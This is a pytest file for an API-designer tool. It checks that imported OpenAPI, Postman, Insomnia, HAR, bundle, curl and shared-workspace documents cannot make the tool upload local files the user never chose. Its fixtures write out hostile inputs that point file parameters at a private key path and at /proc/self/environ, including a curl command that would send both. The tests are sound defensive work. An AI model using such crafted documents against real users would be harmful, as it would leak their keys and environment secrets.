"""Documents carry data, never local paths: only a file the user chose is ever read and sent.

Each hostile document (an OpenAPI description, a Postman collection, a bundle,
a curl command, a shared workspace) points file parameters at a local file
holding a marker, and at ``/proc/self/environ`` (which holds every
``CD_SECRET_…`` variable). A real local server records every request it
receives: neither the marker nor the environment may ever reach it.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from designer import cli
from designer.core.interop.bundle import checksum, export_bundle
from designer.core.models import (
    Api,
    BodyType,
    Call,
    Method,
    Parameter,
    Placement,
    ValueType,
    Workspace,
)
from designer.core.workspace import file as wf
from tests.helpers.recording_server import RecordingServer

MARKER = b"MARKER-7f3c-do-not-upload"
CANARY = "canary-secret-4242"
ENVIRON = "/proc/self/environ"


@pytest.fixture
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[RecordingServer]:
    # In the process environment, so /proc/self/environ would carry it.
    monkeypatch.setenv("CD_SECRET_CANARY", CANARY)
    with RecordingServer() as running:
        yield running


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "private" / "id_rsa"
    path.parent.mkdir()
    path.write_bytes(MARKER + b"\n")
    return path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def received(server: RecordingServer) -> bytes:
    """Every byte of every request the server received: request lines, headers, bodies."""
    out = b""
    for seen in server.seen:
        out += f"{seen.method} {seen.path} {seen.query}\n{seen.headers}\n".encode()
        out += seen.body + b"\n"
    return out


def assert_nothing_leaked(server: RecordingServer) -> None:
    data = received(server)
    assert MARKER not in data
    assert CANARY.encode() not in data
    assert b"CD_SECRET_CANARY" not in data


def file_params(ws: Workspace) -> list[Parameter]:
    return [
        p
        for api in ws.apis
        for call in api.calls
        for p in (*api.parameters, *call.parameters)
        if p.type is ValueType.FILE
    ]


def hostile_openapi(url: str, secret: Path) -> dict[str, Any]:
    return {
        "openapi": "3.0.3",
        "info": {"title": "Uploads", "version": "1"},
        "servers": [{"url": url}],
        "paths": {
            "/upload": {
                "post": {
                    "operationId": "upload",
                    "requestBody": {
                        "content": {
                            "multipart/form-data": {
                                "schema": {
                                    "type": "object",
                                    "properties": {
                                        "title": {"type": "string", "example": "hello"},
                                        "doc": {
                                            "type": "string",
                                            "format": "binary",
                                            "example": str(secret),
                                        },
                                        "env": {
                                            "type": "string",
                                            "format": "binary",
                                            "default": ENVIRON,
                                        },
                                    },
                                }
                            }
                        }
                    },
                    "responses": {"200": {"description": "ok"}},
                }
            }
        },
    }


def test_an_openapi_document_never_chooses_the_file_to_upload(
    server: RecordingServer,
    secret_file: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    document = tmp_path / "uploads.json"
    document.write_bytes(orjson.dumps(hostile_openapi(server.url, secret_file)))
    workspace = tmp_path / "ws.json"
    code, _, err = run(capsys, "import", str(document), "-o", str(workspace))
    assert code == 0, err
    assert "2 file parameters arrived without a file" in err
    assert "--param NAME=@PATH" in err
    params = file_params(wf.load(workspace))
    assert sorted(p.name for p in params) == ["doc", "env"]
    assert all(p.value == "" for p in params)
    assert str(secret_file) not in workspace.read_text()

    # The optional file parts are left out: the request goes, without any file.
    code, _, err = run(capsys, "init", str(workspace), "--call", "upload")
    assert code == 0, err
    assert len(server.seen) == 1
    assert b"hello" in server.seen[0].body
    assert_nothing_leaked(server)


def _shared_workspace(url: str, path: str) -> Workspace:
    call = Call(
        name="Upload",
        method=Method.POST,
        path="/upload",
        body_type=BodyType.MULTIPART,
        parameters=[
            Parameter(name="title", value="hello", placement=Placement.BODY),
            Parameter(name="doc", value=path, placement=Placement.BODY, type=ValueType.FILE),
        ],
    )
    return Workspace(name="Shared", apis=[Api(name="Uploads", base_url=url, calls=[call])])


@pytest.mark.parametrize("target", ["secret", ENVIRON])
def test_a_shared_workspace_cannot_send_a_file_the_user_did_not_choose(
    server: RecordingServer,
    secret_file: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    target: str,
) -> None:
    path = str(secret_file) if target == "secret" else ENVIRON
    workspace = tmp_path / "ws.json"
    wf.save(_shared_workspace(server.url, path), workspace)

    code, out, err = run(capsys, "check", str(workspace), "--format", "json")
    assert code != 0
    (result,) = orjson.loads(out)["calls"]
    assert "was not chosen on this machine for this workspace" in result["error"]
    code, _, err = run(capsys, "init", str(workspace), "--call", "Upload")
    assert code != 0
    assert "was not chosen on this machine for this workspace" in err
    assert len(err.strip().splitlines()) == 1
    assert server.seen == []
    assert_nothing_leaked(server)


def test_a_file_given_on_the_command_line_is_sent_and_remembered_for_that_workspace(
    server: RecordingServer,
    secret_file: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    chosen = tmp_path / "photo.txt"
    chosen.write_bytes(b"the user's own photo")
    workspace = tmp_path / "ws.json"
    wf.save(_shared_workspace(server.url, str(chosen)), workspace)

    code, _, err = run(capsys, "check", str(workspace))
    assert code != 0
    assert server.seen == []
    # The user's own choice on the command line: sent, and remembered.
    code, _, err = run(
        capsys, "init", str(workspace), "--call", "Upload", "--param", f"doc=@{chosen}"
    )
    assert code == 0, err
    assert b"the user's own photo" in server.seen[-1].body
    code, _, err = run(capsys, "check", str(workspace))
    assert code == 0, err
    assert b"the user's own photo" in server.seen[-1].body
    sent = len(server.seen)

    # The choice belongs to that workspace: a copy elsewhere, or another file, is refused.
    copy = tmp_path / "elsewhere" / "ws.json"
    copy.parent.mkdir()
    shutil.copy(workspace, copy)
    code, _, err = run(capsys, "check", str(copy))
    assert code != 0
    wf.save(_shared_workspace(server.url, str(secret_file)), workspace)
    code, _, err = run(capsys, "check", str(workspace))
    assert code != 0
    assert len(server.seen) == sent
    assert_nothing_leaked(server)


def test_a_postman_file_field_arrives_empty_and_its_src_is_never_read(
    server: RecordingServer,
    secret_file: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    collection = {
        "info": {
            "name": "Uploads",
            "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json",
        },
        "item": [
            {
                "name": "Upload",
                "request": {
                    "method": "POST",
                    "url": f"{server.url}/upload",
                    "body": {
                        "mode": "formdata",
                        "formdata": [
                            {"key": "title", "value": "hello", "type": "text"},
                            {"key": "doc", "type": "file", "src": str(secret_file)},
                            {"key": "env", "type": "file", "src": [ENVIRON]},
                        ],
                    },
                },
            }
        ],
    }
    document = tmp_path / "uploads.postman_collection.json"
    document.write_bytes(orjson.dumps(collection))
    workspace = tmp_path / "ws.json"
    code, _, err = run(capsys, "import", str(document), "-o", str(workspace))
    assert code == 0, err
    assert "2 file parameters arrived without a file" in err
    params = file_params(wf.load(workspace))
    assert [(p.name, p.value) for p in params] == [("doc", ""), ("env", "")]
    assert str(secret_file) not in workspace.read_text()

    code, _, err = run(capsys, "init", str(workspace), "--call", "Upload")
    assert code != 0  # the file parts are required: nothing is sent without them
    assert "doc" in err
    assert server.seen == []
    assert_nothing_leaked(server)


def _hostile_bundle(ws: Workspace, path: str) -> bytes:
    """A bundle written by hand to carry ``path`` in its file parameter, checksum and all."""
    doc = orjson.loads(export_bundle(ws))
    parameters = doc["content"]["apis"][0]["calls"][0]["parameters"]
    (file_part,) = [p for p in parameters if p.get("type") == "file"]
    assert file_part["value"] == ""  # an exported bundle never names a local file
    file_part["value"] = path
    doc["checksum"] = checksum(doc["content"])
    return orjson.dumps(doc)


def test_a_bundle_never_chooses_the_file_to_upload(
    server: RecordingServer,
    secret_file: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    for index, path in enumerate((str(secret_file), ENVIRON)):
        ws = _shared_workspace(server.url, path)
        ws.apis[0].calls[0].parameters[1].optional = True
        bundle = tmp_path / f"shared{index}.bundle.json"
        bundle.write_bytes(_hostile_bundle(ws, path))

        code, _, err = run(capsys, "check", str(bundle))
        assert code == 0, err  # sent without the file part
        assert b"hello" in server.seen[-1].body
        assert b'name="doc"' not in server.seen[-1].body

        workspace = tmp_path / f"ws{index}.json"
        code, _, err = run(capsys, "import", str(bundle), "-o", str(workspace))
        assert code == 0, err
        assert "1 file parameter arrived without a file ('Uploads/Upload' doc)" in err
        assert [p.value for p in file_params(wf.load(workspace))] == [""]
    assert_nothing_leaked(server)


def test_a_curl_command_never_chooses_the_file_to_upload(
    server: RecordingServer,
    secret_file: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    command = f"curl {server.url}/upload -F title=hello -F doc=@{secret_file} -F env=@{ENVIRON}"
    workspace = tmp_path / "ws.json"
    code, _, err = run(capsys, "import", "--from", "curl", command, "-o", str(workspace))
    assert code == 0, err
    assert "arrived without a file" in err
    params = file_params(wf.load(workspace))
    assert [(p.name, p.value) for p in params] == [("doc", ""), ("env", "")]
    code, _, err = run(capsys, "init", str(workspace))
    assert code != 0
    assert server.seen == []
    assert_nothing_leaked(server)


def _read(tmp_path: Path, name: str, document: dict[str, Any]) -> list[Parameter]:
    from designer.core.interop.service import read_import

    path = tmp_path / name
    path.write_bytes(orjson.dumps(document))
    imported = read_import(path.read_bytes(), name, base=str(path))
    assert any("arrived without a file" in note for note in imported.result.notes)
    return file_params(Workspace(apis=imported.result.apis))


def test_insomnia_and_har_file_parts_arrive_empty(tmp_path: Path, secret_file: Path) -> None:
    insomnia = {
        "_type": "export",
        "__export_format": 4,
        "resources": [
            {"_id": "wrk", "_type": "workspace", "parentId": None, "name": "Uploads"},
            {
                "_id": "req",
                "_type": "request",
                "parentId": "wrk",
                "name": "Upload",
                "method": "POST",
                "url": "https://uploads.example/upload",
                "body": {
                    "mimeType": "multipart/form-data",
                    "params": [
                        {"name": "title", "value": "hello"},
                        {"name": "doc", "type": "file", "fileName": str(secret_file)},
                        {"name": "env", "type": "file", "fileName": ENVIRON},
                    ],
                },
            },
        ],
    }
    params = _read(tmp_path, "uploads.insomnia.json", insomnia)
    assert [(p.name, p.value) for p in params] == [("doc", ""), ("env", "")]

    request = {
        "method": "POST",
        "url": "https://uploads.example/upload",
        "httpVersion": "HTTP/1.1",
        "headers": [{"name": "Content-Type", "value": "multipart/form-data; boundary=x"}],
        "queryString": [],
        "cookies": [],
        "postData": {
            "mimeType": "multipart/form-data; boundary=x",
            "params": [
                {"name": "title", "value": "hello"},
                {"name": "doc", "fileName": str(secret_file), "contentType": "text/plain"},
            ],
        },
        "headersSize": -1,
        "bodySize": 0,
    }
    response = {
        "status": 200,
        "statusText": "OK",
        "httpVersion": "HTTP/1.1",
        "headers": [{"name": "Content-Type", "value": "application/json"}],
        "cookies": [],
        "content": {"size": 2, "mimeType": "application/json", "text": "{}"},
        "redirectURL": "",
        "headersSize": -1,
        "bodySize": 2,
    }
    entry = {"startedDateTime": "2026-01-01T00:00:00Z", "time": 1, "request": request}
    entry |= {"response": response, "cache": {}, "timings": {"send": 0, "wait": 1, "receive": 0}}
    har = {"log": {"version": "1.2", "creator": {"name": "t", "version": "1"}, "entries": [entry]}}
    params = _read(tmp_path, "uploads.har", har)
    assert [(p.name, p.value) for p in params] == [("doc", "")]


def test_choices_made_while_untitled_are_kept_once_saved_and_links_do_not_pass(
    tmp_path: Path, secret_file: Path
) -> None:
    from designer.core.http.file_choices import ChosenFiles, record_path

    photo = tmp_path / "photo.png"
    photo.write_bytes(b"png")
    where: dict[str, Path | None] = {"path": None}
    chosen = ChosenFiles(lambda: where["path"])
    chosen.choose(str(photo))
    assert chosen.allows(str(photo))
    assert not record_path().exists()  # untitled: nothing to key it by yet
    where["path"] = tmp_path / "ws.json"
    chosen.save()
    assert ChosenFiles(tmp_path / "ws.json").allows(str(photo))  # another run, same workspace
    assert not ChosenFiles(tmp_path / "other.json").allows(str(photo))
    assert oct(record_path().stat().st_mode & 0o777) == "0o600"
    # The chosen name, later a link to a private file, is no longer the file chosen.
    photo.unlink()
    photo.symlink_to(secret_file)
    assert not ChosenFiles(tmp_path / "ws.json").allows(str(photo))
